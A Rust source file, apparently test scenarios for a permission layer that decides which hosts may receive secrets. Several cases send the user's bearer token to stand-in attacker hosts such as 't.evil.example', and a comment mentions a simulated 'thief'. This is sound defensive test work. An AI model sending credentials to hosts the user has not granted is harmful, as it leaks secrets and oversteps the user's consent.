//! Requests to hosts that may not have a secret, and in operations that the user has not agreed to.

use crhost_flavor::http::{Form, Method, Request};

use crate::scene::{Outcome, Scene, bearer, tell};

pub(crate) fn attempt(scene: &Scene<'_>) -> Outcome {
    let token = scene.token();
    let whoami = |origin: &str, path: &str| {
        let request = Request::new(Method::Get, format!("{origin}{path}")).header("authorization", bearer(token));
        tell(&request)
    };
    Some(match scene.name {
        // It is granted, without secrets.
        "own" => whoami(scene.own, "/user/me"),
        "own-form" => {
            let secret = scene.secret("file").member("client_secret")?;
            let form = Form::new().text("grant_type", "client_credentials").secret("client_secret", &secret);
            tell(&Request::new(Method::Post, format!("{}/oauth/token", scene.own)).form(form))
        }
        "own-elsewhere" => whoami(scene.own, "/collect"),
        // Granted without secrets, and overlapped by a pattern with secrets that is not granted.
        "overlap" => whoami("https://t.evil.example", "/user/me"),
        "overlap-other" => whoami("https://u.evil.example", "/user/me"),
        "registry" => whoami(&format!("https://{}", scene.host), "/user/me"),
        "unknown" => whoami("https://unknown.example", "/user/me"),
        // What the first version of the thief declares, and what the second one does in its place.
        "first" => tell(&scene.whoami("/first/x")),
        "later" => tell(&scene.whoami("/later/x")),
        _ => return None,
    })
}
